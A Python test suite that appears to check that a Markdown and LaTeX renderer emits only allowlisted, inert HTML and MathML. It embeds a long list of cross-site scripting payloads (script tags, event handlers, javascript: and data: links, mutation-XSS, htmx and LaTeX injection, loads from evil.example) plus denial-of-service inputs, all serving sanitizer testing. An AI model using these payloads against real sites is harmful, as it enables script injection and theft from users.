"""Authors' Markdown becomes HTML that cannot act, whatever stands in it; mathematics becomes MathML."""

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.pages.markup import markdown, markdown_line
from tests.each import each

TEXT_TAGS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
MATH_TAG = re.compile(
    r"math|m(row|i|o|n|s|text|space|frac|sqrt|root|sub|sup|subsup|under|over|underover|table|tr|td|style|padded"
    r"|phantom|enclose|multiscripts)"
)
SAFE_ATTRIBUTES = {"a": {"href", "rel", "title"}, "ol": {"start"}}
MATH_ATTRIBUTES = {
    *(
        "tabindex",
        "display",
        "mathvariant",
        "stretchy",
        "fence",
        "form",
        "separator",
        "accent",
        "accentunder",
        "displaystyle",
    ),
    *("lspace", "rspace", "width", "height", "depth", "linethickness", "columnalign", "rowspacing", "columnspacing"),
    *("minsize", "maxsize", "movablelimits", "scriptlevel", "notation"),
}


class Inspector(HTMLParser):
    """Fails on any tag, attribute or address that is not on the list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        mathematical = MATH_TAG.fullmatch(tag)
        assert mathematical or tag in TEXT_TAGS, tag
        allowed = MATH_ATTRIBUTES if mathematical else SAFE_ATTRIBUTES.get(tag, set())
        for name, value in attrs:
            assert name in allowed, (tag, name)
            if name == "href":
                self.check_address(value or "")
        if tag == "a":
            assert dict(attrs).get("rel") == "noopener noreferrer nofollow"

    def check_address(self, address: str) -> None:
        # Browsers ignore these inside an address.
        plain = "".join(char for char in address if char > " ")
        scheme = plain.split(":")[0].casefold() if ":" in plain else ""
        assert scheme in ("", "https", "mailto") or not scheme.isalpha(), address
        assert urlsplit(plain).scheme in ("", "https", "mailto"), address

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"an instruction: {data}")


def inspected(text: str) -> str:
    for render in (markdown, markdown_line):
        inspector = Inspector(convert_charrefs=True)
        inspector.feed(render(text))
        inspector.close()
    return str(markdown(text))


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<div hx-get="/admin" hx-trigger="load">x</div>',
    '<a hx-post="/api/v1/sessions/" hx-trigger="load">x</a>',
    '<p data-hx-get="/x" data-hx-trigger="load">x</p>',
    '<div hx-on:click="alert(1)">x</div>',
    '<div hx-on--load="alert(1)">x</div>',
    '<button hx-vals="js:{x: alert(1)}">x</button>',
    '<p class="htmx-request" id="answer-form" data-step="1">x</p>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.example/1)",
    '[x](https://e.example "onmouseover=alert(1)")',
    '[x](https://e.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://e.example/\"onmouseover='alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](x)',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "``` onload=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#http://evil.example>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "</p></div></body><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "{{ 7 * 7 }}{% debug %}",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\text{&#x3c;img src=x onerror=alert(1)&#x3e;}$",
    r"$\text{&#60;script&#62;}$",
    r"$\unicode{x3c}img src=x onerror=alert(1)\unicode{x3e}$",
    r"$\mbox{<style>*{color:red}</style>}$",
    r"$\class{x}{y}$ $\cssId{answer-form}{y}$ $\style{position:fixed}{y}$",
    r"$\color{red;background:url(javascript:alert(1))}{x}$",
    r'$\color{red" onclick="alert(1)}{x}$',
    r"$\colorbox{red}{<b onclick=alert(1)>}$",
    r'$\rule{1em" onclick="alert(1)}{1em}$',
    r'$\hspace{1em" onclick="alert(1)}$',
    r"$\operatorname{<script>}$ $\tag{<script>alert(1)</script>}$",
    r'$\begin{array}{c" onclick="alert(1)}x\end{array}$',
    r"$\includegraphics{https://evil.example/x.png}$ $\require{action}$ $\input{/etc/passwd}$",
    r"$$\left<script\right>$$",
    '$<img src=x onerror="alert(1)">$',
    "$" + "x" * 2_001 + "<script>$",
    r"$\undefinedcommand{<script>alert(1)</script>}{$",
]


@each("payload", PAYLOADS)
def test_untrusted_text_never_becomes_markup_that_acts(payload: str) -> None:
    inspected(payload)
    inspected(f"> - **{payload}**\n\n# {payload}\n\n| a |\n|---|\n| {payload} |")
    inspected(f"$\\text{{{payload}}}$")


@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "<", ">", '"', "$", "`", "\n\n", "](", "[", "&", "x", "\\text{", "}"]), max_size=8
    )
)
def test_payloads_in_any_combination(parts: list[str]) -> None:
    inspected("".join(parts))


@given(st.text(max_size=300))
def test_any_text(text: str) -> None:
    inspected(text)


@each(
    ("text", "html"),
    [
        ("**b** and *i*", "<p><strong>b</strong> and <em>i</em></p>"),
        ("# Title\n\n## Below", "<h3>Title</h3>\n<h4>Below</h4>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("costs $5 or $6", "<p>costs $5 or $6</p>"),
        ("[x](https://e.example/?a=1&b=2)", '<a href="https://e.example/?a=1&amp;b=2" rel='),
        ("[x](mailto:a@e.example)", 'href="mailto:a@e.example"'),
        ("[x](http://e.example)", "<a rel="),
        ("| a |\n|---|\n| b |", "<td>b</td>"),
        ("2. two", '<ol start="2">'),
    ],
)
def test_ordinary_markdown(text: str, html: str) -> None:
    assert html in inspected(text)


@each(
    ("latex", "mathml"),
    [
        ("$x^2$", '<math display="inline"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math>'),
        ("$$\\frac{1}{2}$$", '<math display="block" tabindex="0"><mrow><mfrac>'),
        ("$\\mathrm{CO_2}$", "<msub>"),
        ("$a < b$", "<mo>&lt;</mo>"),
        ("$\\text{a<b & c}$", "<mtext>a&lt;b"),
        ("$6 \\to \\alpha$", "<mo>→</mo><mi>α</mi>"),
        ("$\\sqrt[3]{x}$", "<mroot>"),
    ],
)
def test_mathematics_is_mathml(latex: str, mathml: str) -> None:
    assert mathml in inspected(latex)


@pytest.mark.parametrize("latex", ["$x^{$", "$\\left($", "$\\newcommand{\\a}{x}\\a$", "$" + "x" * 2_001 + "$"])
def test_a_formula_that_cannot_be_read_is_shown_as_written(latex: str) -> None:
    assert f"<code>{latex.strip('$')}</code>" in inspected(latex)


@pytest.mark.parametrize("latex", ["\\rule{9999em}{9999em}", "\\hspace{-9999em}", "\\kern9999px", "\\rule{1e9px}{1px}"])
def test_a_formula_cannot_push_the_page_away(latex: str) -> None:
    assert "999" not in inspected(f"${latex} x$")
    assert "1e9" not in inspected(f"${latex} x$")


HEAVY = [
    ">",
    "[",
    "*",
    "_",
    "`",
    "![",
    "[a](",
    "<",
    "- ",
    "a\n",
    "|",
    "$",
    "$$",
    "\\",
    "**a",
    "[a][",
    "&",
    "> > ",
    "1. ",
    "$x$ ",
    "\t",
]


@pytest.mark.hard
@each("unit", [*HEAVY, "<b ", "$\\frac{", "{", "\\(", "a|\n-|\n", "~~a", "\n\n    a"])
def test_twenty_thousand_characters_take_at_most_seconds(unit: str) -> None:
    started = time.perf_counter()
    html = inspected((unit * 20_000)[:20_000])
    assert time.perf_counter() - started < 60
    assert len(html) < 2_000_000


@pytest.mark.parametrize(
    "latex", ["{" * 990 + "}" * 990, "x^{" * 400 + "}" * 400, "\\sqrt{" * 280 + "}" * 280, "\\left(" * 300]
)
def test_deeply_nested_mathematics_is_survived(latex: str) -> None:
    inspected(f"${latex}$")


def test_a_line_has_no_paragraph() -> None:
    assert markdown_line("a **b** $x$") == (
        'a <strong>b</strong> <math display="inline"><mrow><mi>x</mi></mrow></math>'
    )
